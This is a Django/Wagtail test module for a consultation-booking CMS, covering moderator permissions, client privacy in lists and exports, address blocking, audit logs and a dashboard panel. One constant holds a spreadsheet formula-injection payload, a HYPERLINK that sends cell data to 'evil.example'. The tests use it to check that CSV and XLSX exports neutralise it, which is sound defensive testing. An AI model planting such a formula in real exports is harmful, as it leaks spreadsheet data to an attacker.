"""Consultations in the CMS, blocked addresses and what the front page tells moderators."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from html import unescape
from typing import Any

import openpyxl
import pytest
from allauth.account.models import EmailAddress
from bs4 import BeautifulSoup
from django.db import connection, transaction
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from wagtail.models import ModelLogEntry

from accounts import erasure, exports
from booking import services
from booking.errors import Blocked, Busy, Stale
from booking.forms import as_shown
from booking.models import Booking, BookingEvent, Schedule
from booking.services import cancel_booking
from core.exports import harmless
from moderation import errors
from moderation.blocking import block_address, is_blocked
from moderation.models import BlockedAddress
from tests.booking.conftest import NOW
from tests.booking.pages import HALF_PAST, NINE
from tests.booking.requests import TOMORROW, by_hand, request
from tests.booking.visitors import book, by, mails_to, seen
from tests.factories.accounts import UserFactory
from tests.factories.booking import BookingFactory, ScheduleFactory
from tests.factories.people import (
    log_in_to_cms,
    make_administrator,
    make_editor,
    make_moderator,
    make_superuser,
    make_translator,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]

Status = Booking.Status
OWNER = "robin@example.org"
SECRET = "kanarek-of-a-client"
LIST = "/cms/bookings/"
BLOCKED = "/cms/blocked-addresses/"
WORDS = {
    "client_name": f"name {SECRET}",
    "client_email": f"r{SECRET}@example.org",
    "note": f"note {SECRET}",
    "reason": f"reason {SECRET}",
    "answers": [["Question", f"answer {SECRET}"]],
}


@pytest.fixture
def cms(client: Client) -> Client:
    log_in_to_cms(client, make_moderator())
    return client


def read_list(cms: Client, **query: Any) -> set[int]:
    """The numbers of the consultations in the list."""
    response = cms.get(LIST, query)
    assert response.status_code == 200
    return {int(found) for found in re.findall(r"/cms/bookings/inspect/(\d+)/", response.content.decode())}


def blocked(email: str = OWNER) -> BlockedAddress:
    return block_address(email=email, reason="Rude", by=None)


# --- Who may ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", [make_editor, make_translator])
def test_others_in_the_cms_see_and_do_nothing_of_it(client: Client, make: Any) -> None:
    booking = BookingFactory(held=True, starts_at=NINE)
    log_in_to_cms(client, make())
    for name in ("inspect", "block"):
        assert client.get(reverse(f"bookings:{name}", args=[booking.pk])).status_code == 302
    assert client.get(LIST).status_code == client.get(f"{LIST}?export=csv").status_code == 302
    assert client.get(BLOCKED).status_code == client.get(f"{BLOCKED}new/").status_code == 302
    client.post(reverse("bookings:end_hold", args=[booking.pk]), {"shown": as_shown(booking)})
    client.post(reverse("bookings:block", args=[booking.pk]), {"reason": "Rude", "shown": "0"})
    client.post(f"{BLOCKED}new/", {"email": OWNER, "reason": "Rude"})
    assert Booking.objects.get().status == Status.HELD
    assert not BlockedAddress.objects.exists()
    home = client.get("/cms/").content.decode()
    assert LIST not in home
    assert "Free consultations" not in home


@pytest.mark.parametrize("make", [make_moderator, make_administrator, make_superuser])
def test_nobody_adds_edits_copies_or_deletes_a_consultation(client: Client, make: Any) -> None:
    booking = BookingFactory(starts_at=NINE)
    log_in_to_cms(client, make())
    assert client.get(LIST).status_code == 200
    for path in (
        "new/",
        *(f"{verb}/{booking.pk}/" for verb in ("edit", "delete", "copy", "history", "usage")),
    ):
        assert client.post(f"{LIST}{path}").status_code == 404
    page = client.get(LIST).content.decode()
    assert not re.search(r"bookings/(new|edit|delete|copy)/", page)


# --- The list -----------------------------------------------------------------------------------------------------


def test_lists_pages_and_exports_have_no_word_of_the_clients(cms: Client) -> None:
    booking = BookingFactory(starts_at=NINE, schedule__time_zone="Europe/Kyiv", **WORDS)
    place = reverse("bookings:inspect", args=[booking.pk])
    for url in (LIST, f"{LIST}?q={booking.uid}", place, reverse("bookings:block", args=[booking.pk])):
        page = cms.get(url).content.decode()
        assert SECRET not in page, url
    assert "2027-03-01 11:00 Europe/Kyiv" in cms.get(LIST).content.decode()
    inspected = cms.get(place).content.decode()
    assert "r…@example.org" in inspected
    assert str(booking.uid) in inspected
    for form in ("csv", "xlsx"):
        content = b"".join(cms.get(f"{LIST}?export={form}").streaming_content)  # type: ignore[attr-defined]
        assert SECRET.encode() not in content


def test_a_word_of_a_clients_finds_nothing(cms: Client) -> None:
    booking = BookingFactory(starts_at=NINE, **WORDS)
    other = BookingFactory(starts_at=NINE, schedule__specialist__name="Somebody Else")
    assert read_list(cms) == {booking.pk, other.pk}
    for word in (SECRET, WORDS["client_email"], "note", "Question"):
        assert read_list(cms, q=word) == set()
    assert read_list(cms, q=str(booking.uid)) == {booking.pk}
    assert read_list(cms, q=str(other.uid)[:13]) == {other.pk}
    assert read_list(cms, q="somebody") == {other.pk}


def test_the_list_is_filtered_by_state_specialist_and_date(cms: Client) -> None:
    early = BookingFactory(starts_at=NINE, schedule__specialist__name="Ada")
    late = BookingFactory(starts_at=NINE + timedelta(days=3), cancelled=True)
    assert read_list(cms, status="cancelled") == {late.pk}
    assert read_list(cms, status=["cancelled", "confirmed"]) == {early.pk, late.pk}
    assert read_list(cms, specialist="ada") == {early.pk}
    assert read_list(cms, starts_at_from="2027-03-02") == {late.pk}
    assert read_list(cms, starts_at_to="2027-03-02") == {early.pk}
    assert read_list(cms, starts_at_from="2027-03-01", starts_at_to="2027-03-01", status="cancelled") == set()


def test_the_list_takes_as_many_queries_for_fifty_as_for_one(cms: Client) -> None:
    counts = []
    for number in (1, 19):
        for _ in range(number):
            BookingFactory(starts_at=NINE)
        cms.get(LIST)
        with CaptureQueriesContext(connection) as queries:
            cms.get(LIST)
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_a_page_tells_what_happened_and_who_did_it(cms: Client) -> None:
    schedule = by_hand(windows=[(day, 540, 720) for day in range(7)])
    booking = request(schedule)
    services.propose_time(booking=booking, start=booking.starts_at + timedelta(days=1))
    page = cms.get(reverse("bookings:inspect", args=[booking.pk])).content.decode()
    rows = [
        [re.sub(r"<[^>]+>|\s+", " ", cell).strip() for cell in re.findall(r"<td>(.*?)</td>", row)]
        for row in re.findall(r"<tr>(.*?)</tr>", page, re.DOTALL)
    ]
    happened = [row[1:] for row in rows if len(row) == 3]
    assert happened[-2:] == [
        ["client", "waiting for the specialist"],
        ["specialist", f"another time proposed: {booking.starts_at + timedelta(days=1):%Y-%m-%d %H:%M} UTC"],
    ]


# --- Exports ------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_a_cell_that_begins_like_a_formula_is_text(start: str) -> None:
    assert harmless(f"{start}1+1") == f"'{start}1+1"
    assert harmless("Ada = Lovelace") == "Ada = Lovelace"
    assert harmless("") == ""


def test_a_specialist_called_like_a_formula_is_none_in_a_spreadsheet(cms: Client) -> None:
    BookingFactory(starts_at=NINE, schedule__specialist__name=FORMULA)
    response = cms.get(f"{LIST}?export=csv")
    assert "consultations.csv" in response["Content-Disposition"]
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))  # type: ignore[attr-defined]
    assert row == {
        "When": "2027-03-01 09:00 UTC",
        "Specialist": f"'{FORMULA}",
        "State": "confirmed",
        "Created": "2027-03-01 08:00 UTC",
        "How": "by e-mail",
    }
    content = b"".join(cms.get(f"{LIST}?export=xlsx").streaming_content)  # type: ignore[attr-defined]
    cells = list(openpyxl.load_workbook(io.BytesIO(content)).active.rows)[1]
    assert cells[1].value == f"'{FORMULA}"
    assert {cell.data_type for cell in cells} == {"s"}


def test_upstreams_export_still_writes_formulas_into_csv() -> None:
    """When this fails, `core.exports` isn't needed any more."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert (
        SpreadsheetExportMixin.preprocess_field_value.__wrapped__(
            SpreadsheetExportMixin(), "name", FORMULA, "csv"
        )
        == FORMULA
    )


def test_the_export_has_what_the_list_is_filtered_to(cms: Client) -> None:
    BookingFactory(starts_at=NINE, schedule__specialist__name="Ada")
    BookingFactory(starts_at=NINE, cancelled=True)
    text = b"".join(cms.get(f"{LIST}?export=csv&status=cancelled").streaming_content).decode()  # type: ignore[attr-defined]
    assert "Ada" not in text
    assert text.count("\r\n") == 2


# --- Blocking -----------------------------------------------------------------------------------------------------


def test_an_address_is_blocked_from_a_consultation_and_all_to_come_is_cancelled(cms: Client) -> None:
    first = BookingFactory(
        starts_at=NINE, client_email=OWNER, schedule=ScheduleFactory(specialist__user=UserFactory())
    )
    second = BookingFactory(held=True, starts_at=HALF_PAST, client_email=OWNER)
    over = BookingFactory(starts_at=NOW - timedelta(hours=2), client_email=OWNER, status=Status.CONFIRMED)
    others = BookingFactory(starts_at=NINE)
    place = reverse("bookings:block", args=[first.pk])
    assert "1 consultation to come under it is cancelled" in cms.get(place).content.decode()
    assert cms.post(place, {"reason": ""}).status_code == 200
    assert not BlockedAddress.objects.exists()
    old = cms.post(place, {"reason": "Rude to two specialists", "shown": "2"})  # as many were there before
    assert old.status_code == 409
    assert "Rude to two specialists" in old.content.decode()
    assert str(Stale.sentence) in unescape(old.content.decode())
    assert not BlockedAddress.objects.exists()
    seen = BeautifulSoup(old.content, "html.parser").find("input", {"name": "shown"})["value"]
    response = cms.post(place, {"reason": "Rude to two specialists", "shown": seen}, follow=True)
    assert "1 consultation under it is cancelled" in response.content.decode()
    states = {row.pk: row.status for row in Booking.objects.all()}
    assert states == {
        first.pk: Status.CANCELLED,
        second.pk: Status.CANCELLED,
        over.pk: Status.CONFIRMED,
        others.pk: Status.CONFIRMED,
    }
    assert {event.actor for event in BookingEvent.objects.filter(to_status="cancelled")} == {"site"}
    specialist = first.schedule.specialist.user.email
    assert len(mails_to(OWNER)) == len(mails_to(specialist)) == 1
    row = BlockedAddress.objects.get()
    assert (row.masked, row.reason, row.blocked_by) == (
        "r…@example.org",
        "Rude to two specialists",
        response.wsgi_request.user,
    )
    assert "robin" not in str(BlockedAddress.objects.values().get())
    assert (
        "This address is blocked." in cms.get(reverse("bookings:inspect", args=[first.pk])).content.decode()
    )


def test_an_address_is_blocked_by_typing_it_however_it_is_written(cms: Client) -> None:
    data = {"email": "Robin@Example.ORG", "reason": "Rude"}
    response = cms.post(f"{BLOCKED}new/", data, follow=True)
    page = response.content.decode()
    assert "R…@Example.ORG" in page or "r…@example.org" in page
    assert "obin@" not in page
    assert cms.post(f"{BLOCKED}new/", {**data, "email": OWNER}).context["form"].errors["email"]
    assert BlockedAddress.objects.count() == 1
    with pytest.raises(Blocked):
        request(ScheduleFactory(), email=OWNER)


@pytest.mark.parametrize(
    ("typed", "other"),
    [
        (OWNER, "robin+1@example.org"),
        ("Robin+work@example.org", OWNER),
        ("robin.vale@gmail.com", "rob.in.vale+x@googlemail.com"),
    ],
)
def test_a_block_goes_by_the_mailbox_however_its_address_is_spelt(typed: str, other: str) -> None:
    booking = BookingFactory(starts_at=NINE, client_email=other)
    others = BookingFactory(starts_at=NINE, client_email="robin@example.com")
    one = blocked(typed)
    assert blocked(other) == one
    assert is_blocked(other)
    assert not is_blocked("robin@example.com")
    for row, state in ((booking, Status.CANCELLED), (others, Status.CONFIRMED)):
        row.refresh_from_db()
        assert row.status == state
    for email in (typed, other):
        with pytest.raises(Blocked):
            request(ScheduleFactory(), email=email)


def test_nobody_books_under_another_tag_while_their_mailbox_is_being_blocked() -> None:
    def locks_of_clients(queries: CaptureQueriesContext) -> list[str]:
        """Those with a number worked out from a key; the directory's index locks its bits by name."""
        return [query["sql"] for query in queries if re.search(r"pg_advisory_xact_lock\(-?\d", query["sql"])]

    with transaction.atomic(), CaptureQueriesContext(connection) as queries:
        request(ScheduleFactory(), email="robin+1@example.org")
    locks = locks_of_clients(queries)
    with CaptureQueriesContext(connection) as queries:
        blocked()
    (lock,) = locks_of_clients(queries)
    assert locks[0] == lock, "the mailbox first, and the address behind it"
    assert len(locks) == 2


@pytest.mark.parametrize("shown", [OWNER, "robin+own@example.org"])
def test_a_block_is_in_the_export_of_whoever_has_shown_an_address_of_the_mailbox(shown: str) -> None:
    user = UserFactory(email=shown)
    EmailAddress.objects.create(user=user, email=shown, verified=True, primary=True)
    blocked("robin+2@example.org")
    data = zipfile.ZipFile(io.BytesIO(exports.build(user))).read("data.json").decode()
    assert "r…@example.org" in data
    erasure.erase(user_id=user.pk)
    assert BlockedAddress.objects.exists()


def test_a_consultation_that_is_being_changed_keeps_no_other_from_being_cancelled(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    first = BookingFactory(starts_at=NINE, client_email="robin@example.org")
    BookingFactory(starts_at=HALF_PAST, client_email="robin@example.org")
    busy = [first.pk]

    def cancel(*, booking: Booking, actor: Any) -> Any:
        if booking.pk in busy:
            raise Busy
        return cancel_booking(booking=booking, actor=actor)

    monkeypatch.setattr("booking.services.blocking.cancel_booking", cancel)
    with pytest.raises(errors.Busy):
        block_address(email="robin@example.org", reason="Rude", by=None)
    assert list(Booking.objects.active().values_list("pk", flat=True)) == busy
    busy.clear()
    block_address(email="robin@example.org", reason="Rude", by=None)
    assert not Booking.objects.active().exists()


def test_blocking_twice_is_blocking_once_and_cancels_what_came_in_between() -> None:
    one = blocked()
    booking = BookingFactory(starts_at=NINE, client_email=OWNER)
    assert blocked() == one
    booking.refresh_from_db()
    assert booking.status == Status.CANCELLED
    assert ModelLogEntry.objects.filter(action="moderation.block_address").count() == 1


def test_a_stranger_cannot_tell_a_blocked_address_from_another(client: Client) -> None:
    schedule = ScheduleFactory()
    blocked()
    there = seen(by(1), book(by(1), schedule, email=OWNER))
    assert Booking.objects.get().is_nobodys  # others see the time go, as for any address
    answers = []
    for one, email in ((by(2), OWNER), (by(3), "rabin@example.org")):
        Booking.objects.all().delete()
        answers.append(seen(one, book(one, schedule, email=email)))
    assert answers[0] == answers[1]
    assert there[0] == answers[0][0]
    assert mails_to(OWNER) == []
    assert len(mails_to("rabin@example.org")) == 1
    assert Booking.objects.count() == 1
    again = by(4)
    assert seen(again, book(again, schedule, HALF_PAST, email=OWNER))[:2] == answers[0][:2]


def test_whoever_has_shown_that_the_address_is_theirs_is_told_how_to_write_to_the_team(
    client: Client,
) -> None:
    blocked()
    user = UserFactory(email=OWNER)
    EmailAddress.objects.create(user=user, email=OWNER, verified=True, primary=True)
    client.force_login(user)
    response = book(client, ScheduleFactory(), email=OWNER)
    assert response.status_code == 403
    page = response.content.decode()
    assert "please write to hello@attune.example" in page
    assert not Booking.objects.exists()
    assert mails_to(OWNER) == []


def test_an_address_is_released_and_may_book_again(cms: Client) -> None:
    row = blocked()
    place = reverse("blocked_addresses:delete", args=[row.pk])
    assert "r…@example.org" in cms.get(place).content.decode()
    assert BlockedAddress.objects.exists()
    assert "can book under this address again" in cms.post(place, follow=True).content.decode()
    assert not BlockedAddress.objects.exists()
    assert request(ScheduleFactory(), email=OWNER).pk


def test_a_hold_is_ended_and_the_owner_books_again_with_a_mail(cms: Client) -> None:
    schedule, other = ScheduleFactory(), ScheduleFactory()
    visitor = by(1)
    book(visitor, schedule, email=OWNER)
    booking = Booking.objects.get()
    place = reverse("bookings:inspect", args=[booking.pk])
    assert "End this hold" in cms.get(place).content.decode()
    assert cms.get(reverse("bookings:end_hold", args=[booking.pk])).status_code == 405
    assert (
        cms.post(
            reverse("bookings:end_hold", args=[booking.pk]), {"shown": as_shown(booking)}, follow=True
        ).status_code
        == 200
    )
    booking.refresh_from_db()
    assert booking.status == Status.EXPIRED
    assert booking.events.latest("pk").actor == "moderator"
    assert "End this hold" not in cms.get(place).content.decode()
    again = cms.post(
        reverse("bookings:end_hold", args=[booking.pk]), {"shown": as_shown(booking)}, follow=True
    )
    assert "changed in the meantime" in again.content.decode()
    book(visitor, other, email=OWNER)
    assert Booking.objects.filter(status=Status.HELD, schedule=other).exists()
    assert len(mails_to(OWNER)) == 2


def test_only_a_hold_can_be_ended() -> None:
    with pytest.raises(Stale):
        services.end_hold(booking=BookingFactory(starts_at=NINE), by=None)


def test_the_log_says_who_did_what_and_no_word_of_a_client(cms: Client) -> None:
    booking = BookingFactory(held=True, starts_at=NINE, **WORDS)
    cms.post(reverse("bookings:end_hold", args=[booking.pk]), {"shown": as_shown(booking)})
    cms.post(reverse("bookings:block", args=[booking.pk]), {"reason": f"Rude {SECRET}", "shown": "0"})
    cms.post(reverse("blocked_addresses:delete", args=[BlockedAddress.objects.get().pk]))
    entries = list(ModelLogEntry.objects.order_by("pk"))
    assert [entry.action for entry in entries] == [
        "booking.end_hold",
        "moderation.block_address",
        "moderation.release_address",
    ]
    assert {entry.user.email for entry in entries} == {"moderator@attune.example"}
    for entry in entries:
        assert SECRET not in f"{entry.label} {entry.data} {entry.message}"
        assert "example.org" not in f"{entry.label} {entry.data} {entry.message}"
        assert str(entry.message)


def test_erasing_an_account_keeps_its_block_and_forgets_who_blocked(client: Client) -> None:
    moderator, user = make_moderator(), UserFactory(email=OWNER)
    EmailAddress.objects.create(user=user, email=OWNER, verified=True, primary=True)
    block_address(email=OWNER, reason="Rude", by=moderator)
    assert b"Rude" not in exports.build(user)
    erasure.erase(user_id=user.pk)
    erasure.erase(user_id=moderator.pk)
    assert BlockedAddress.objects.get().blocked_by is None
    with pytest.raises(Blocked):
        request(ScheduleFactory(), email=OWNER)


# --- The front page -------------------------------------------------------------------------------------------------


def panel(cms: Client) -> str:
    html = cms.get("/cms/").content.decode()
    found = re.search(r'<section[^>]*id="consultations-section".*?</section>', html, re.DOTALL)
    assert found, html[:2000]
    return re.sub(r"\s+", " ", found[0])


def test_the_front_page_counts_what_needs_a_look_and_leads_to_it(cms: Client) -> None:
    text = panel(cms)
    assert "0 requests wait for an answer" in text
    assert "within 24 hours" not in text
    schedule = by_hand(windows=[(day, 540, 720) for day in range(7)])
    soon, later = request(schedule), request(by_hand(windows=[(day, 540, 720) for day in range(7)]))
    Booking.objects.filter(pk=soon.pk).update(answer_by=NOW + timedelta(hours=3))
    Booking.objects.filter(pk=later.pk).update(answer_by=NOW + timedelta(hours=30))
    mine = request(by_hand(windows=[(day, 540, 720) for day in range(7)]))
    Booking.objects.filter(pk=mine.pk).update(awaits_client=True)
    missed = BookingFactory(starts_at=NINE, status=Status.EXPIRED)
    old = BookingFactory(starts_at=NINE, status=Status.EXPIRED)
    unconfirmed = BookingFactory(starts_at=NINE, status=Status.EXPIRED)
    for booking, was in ((missed, "requested"), (old, "requested"), (unconfirmed, "held")):
        BookingEvent.objects.create(
            booking=booking, from_status=was, to_status="expired", actor="site", sequence=0
        )
    BookingEvent.objects.filter(booking=old).update(at=NOW - timedelta(days=8))
    Schedule.objects.filter(pk=schedule.pk).update(paused_at=NOW)
    text = panel(cms)
    assert "2 requests wait for an answer" in text
    assert "1 of them within 24 hours" in text
    assert "1 request ended without an answer" in text
    assert "1 specialist is paused" in text
    found = {which: read_list(cms, attention=which) for which in ("waiting", "ending", "missed")}
    assert found == {"waiting": {soon.pk, later.pk}, "ending": {soon.pk}, "missed": {missed.pk}}
    for url in re.findall(r"href=\"(/[^\"]+)\"", text):
        assert cms.get(url).status_code == 200
    paused = cms.get(reverse("schedules:index"), {"paused": "true"}).content.decode()
    assert str(schedule.specialist) in paused
    assert str(missed.schedule.specialist) not in paused


def test_the_panel_takes_four_queries_however_much_there_is() -> None:
    from booking.queues import CONSULTATIONS, QUEUES
    from moderation.panels import QueuesPanel

    for number in (0, 5):
        for _ in range(number):
            BookingFactory(starts_at=TOMORROW, status=Status.REQUESTED)
        with CaptureQueriesContext(connection) as queries:
            QueuesPanel(CONSULTATIONS, QUEUES).get_context_data({"request": RequestFactory().get("/cms/")})
        assert len(queries) == 4
